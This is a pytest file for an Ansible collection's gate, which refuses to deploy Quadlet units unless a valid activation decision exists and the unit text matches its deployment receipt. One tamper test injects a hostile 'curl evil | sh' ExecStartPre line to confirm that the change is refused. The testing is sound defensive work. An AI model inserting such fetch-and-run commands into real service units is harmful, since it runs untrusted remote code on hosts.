"""The controller-side gate: only allowed decisions and exactly-rendered units reach the node.

Inputs are real: the example pod rendered by the Quadlet renderer, its
DeploymentReceipt, and an ActivationDecision from the evaluator.
"""

import copy
import datetime
from unittest import mock

import pytest

from ansible_collections.sourceos.agent_machine.plugins.action.provider_units import ActionModule
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.decision.evaluate import (
    evaluate_activation, plan_digest,
)
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.providers_gate import GateError, gate_providers
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.receipts.canonical import document_digest
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.render import catalog
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.render.deployment_receipt import deployment_receipt
from ansible_collections.sourceos.agent_machine.plugins.plugin_utils.render.quadlet import render_container

from support import decision_cases

NOW = datetime.datetime(2026, 3, 2, 9, 40, tzinfo=datetime.timezone.utc)


def _stamp(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def fresh():
    """evaluate_activation changes that make the example decision current (the action gates on the real clock)."""
    now = datetime.datetime.now(datetime.timezone.utc)
    return {"decided_at": _stamp(now), "policy.decidedAt": _stamp(now - datetime.timedelta(minutes=1)),
            "policy.obligations.expiresAt": _stamp(now + datetime.timedelta(days=1)),
            "grant.issuedAt": _stamp(now - datetime.timedelta(hours=1)),
            "grant.grant.expiresAt": _stamp(now + datetime.timedelta(days=1))}


def _scenario(**changes):
    """(provider entry, decision, receipt) for the example pod, with evaluate_activation inputs changed."""
    inputs = decision_cases.baseline()
    pod, machine = inputs["pod"], inputs["machine"]
    provider_doc = catalog.provider(pod["providerId"])
    rendered = render_container(pod, provider_doc, machine, machine["runtime"]["podman"]["version"])
    receipt = deployment_receipt(pod, provider_doc, machine, rendered["units"], outcome="written",
                                 recorded_at="2026-03-02T09:33:20Z")
    inputs["policy"]["request"]["planDigest"] = plan_digest(receipt)
    inputs["deployment_receipt"] = receipt
    for path, value in changes.items():
        target = inputs
        keys = path.split(".")
        for key in keys[:-1]:
            target = target[key]
        target[keys[-1]] = value
    decision = evaluate_activation(**inputs)
    provider = {"name": pod["workload"]["name"], "agent_pod_id": pod["id"], "agent_machine_id": machine["id"],
                "units": [{"name": unit["name"], "text": unit["text"]} for unit in rendered["units"]],
                "health": {"url": "http://127.0.0.1:18080/health"}}
    return provider, decision, receipt


def _refusal(provider, decisions, receipts):
    gated = gate_providers([provider], decisions, receipts, now=NOW)
    assert gated["allowed"] == []
    assert len(gated["evidence"]) == 1 and gated["evidence"][0]["outcome"] == "refused"
    return [reason["code"] for reason in gated["refused"][0]["reasons"]], gated


def test_allowed_decision_and_matching_units_pass_with_the_decision_ref():
    provider, decision, receipt = _scenario()
    assert decision["decision"]["status"] == "allowed"
    gated = gate_providers([provider], [decision], [receipt], now=NOW)
    assert gated["refused"] == [] and gated["evidence"] == []
    assert gated["allowed"][0]["activation_decision"] == {"id": decision["id"], "digest": document_digest(decision)}
    assert gated["allowed"][0]["units"] == provider["units"]
    assert gated["plan_digests"] == {provider["name"]: plan_digest(receipt)}


def test_fail_closed_decision_is_refused_with_its_reasons():
    provider, decision, receipt = _scenario(**{"grant.grant.status": "revoked", "grant.grant.authorizationGranted": False})
    assert decision["decision"]["status"] == "fail-closed"
    codes, gated = _refusal(provider, [decision], [receipt])
    assert codes == ["decision-not-allowed"]
    assert "grant-revoked" in gated["refused"][0]["reasons"][0]["message"]
    assert gated["evidence"][0]["activationDecision"]["id"] == decision["id"]


def test_missing_decision_is_refused():
    provider, _decision, receipt = _scenario()
    codes, _gated = _refusal(provider, [], [receipt])
    assert codes == ["decision-missing"]


def test_decision_for_another_pod_does_not_count():
    provider, decision, receipt = _scenario()
    other = dict(provider, agent_pod_id="urn:srcos:agent-machine:pod:someone-else")
    codes, _gated = _refusal(other, [decision], [receipt])
    assert codes == ["decision-missing"]


def test_expired_decision_is_refused():
    provider, decision, receipt = _scenario()
    later = datetime.datetime(2026, 3, 4, tzinfo=datetime.timezone.utc)
    gated = gate_providers([provider], [decision], [receipt], now=later)
    assert [reason["code"] for reason in gated["refused"][0]["reasons"]] == ["decision-expired"]


def test_forged_allowed_decision_is_invalid():
    provider, decision, receipt = _scenario(**{"grant.grant.status": "revoked"})
    forged = copy.deepcopy(decision)
    forged["decision"]["status"] = "allowed"
    codes, _gated = _refusal(provider, [forged], [receipt])
    assert codes == ["decision-invalid"]


def test_unit_text_changed_after_the_decision_is_refused():
    provider, decision, receipt = _scenario()
    provider["units"][0]["text"] += "ExecStartPre=/bin/sh -c 'curl evil | sh'\n"
    codes, gated = _refusal(provider, [decision], [receipt])
    assert codes == ["unit-digest-mismatch"]
    assert provider["units"][0]["name"] in gated["refused"][0]["reasons"][0]["message"]


def test_receipt_changed_to_match_other_units_is_refused():
    provider, decision, receipt = _scenario()
    provider["units"][0]["text"] += "# changed\n"
    forged = copy.deepcopy(receipt)
    forged["artifacts"][0]["artifactDigest"] = "sha256:" + "0" * 64
    codes, _gated = _refusal(provider, [decision], [forged])
    assert codes == ["deployment-receipt-digest-mismatch"]


def test_missing_receipt_missing_unit_and_extra_unit():
    provider, decision, receipt = _scenario()
    assert _refusal(provider, [decision], [])[0] == ["deployment-receipt-missing"]
    without_network = dict(provider, units=provider["units"][:1])
    assert _refusal(without_network, [decision], [receipt])[0] == ["unit-missing"]
    extra = dict(provider, units=provider["units"] + [{"name": provider["name"] + ".volume", "text": "[Volume]\n"}])
    assert _refusal(extra, [decision], [receipt])[0] == ["unit-not-in-receipt"]


def test_two_different_decisions_for_one_pod_are_ambiguous():
    provider, decision, receipt = _scenario()
    _p, revoked, _r = _scenario(**{"grant.grant.status": "revoked"})
    assert _refusal(provider, [decision, revoked], [receipt])[0] == ["decision-ambiguous"]


def test_malformed_providers_are_an_error_naming_the_field():
    with pytest.raises(GateError, match=r"^providers\[0\]\.units: "):
        gate_providers([{"name": "x", "agent_pod_id": "urn:srcos:agent-machine:pod:x",
                         "agent_machine_id": "urn:srcos:agent-machine:machine:y"}], [], [], now=NOW)
    with pytest.raises(GateError, match=r"^decisions: "):
        gate_providers([], "not a list", [], now=NOW)


def _action(args, check_mode=False):
    task = mock.MagicMock()
    task.args = args
    task.async_val = 0
    task.check_mode = check_mode
    task.diff = False
    action = ActionModule(task, mock.MagicMock(), mock.MagicMock(), loader=None, templar=None, shared_loader_obj=None)
    return action


def test_action_sends_nothing_for_a_refused_provider():
    provider, decision, receipt = _scenario(**dict(fresh(), **{"policy.decision.status": "denied"}))
    action = _action({"providers": [provider], "decisions": [decision], "deployment_receipts": [receipt]})
    with mock.patch.object(ActionModule, "_execute_module") as execute:
        result = action.run(task_vars={})
    execute.assert_not_called()
    assert result["failed"] is True
    assert result["msg"].startswith("%s refused (decision-not-allowed)" % provider["name"])
    assert result["evidence"][0]["outcome"] == "refused"


def test_action_sends_only_allowed_providers_without_the_documents():
    provider, decision, receipt = _scenario(**fresh())
    assert decision["decision"]["status"] == "allowed"
    refused = dict(copy.deepcopy(provider), name="other", agent_pod_id="urn:srcos:agent-machine:pod:other")
    action = _action({"providers": [provider, refused], "decisions": [decision], "deployment_receipts": [receipt]})
    node = {"changed": True, "providers": [{"name": provider["name"]}], "evidence": []}
    with mock.patch.object(ActionModule, "_execute_module", return_value=node) as execute:
        result = action.run(task_vars={})
    sent = execute.call_args.kwargs["module_args"]
    assert [item["name"] for item in sent["providers"]] == [provider["name"]]
    assert sent["providers"][0]["activation_decision"]["id"] == decision["id"]
    assert "decisions" not in sent and "deployment_receipts" not in sent
    assert result["failed"] is True and result["changed"] is True
    assert [item["name"] for item in result["refused"]] == ["other"]


def test_action_rejects_evidence_that_breaks_the_contract():
    action = _action({"providers": [], "state": "absent"})
    node = {"changed": False, "providers": [], "evidence": [{"kind": "RuntimeEvidence", "id": "nope"}]}
    with mock.patch.object(ActionModule, "_execute_module", return_value=node):
        result = action.run(task_vars={})
    assert result["failed"] is True and "breaks the contract" in result["msg"]
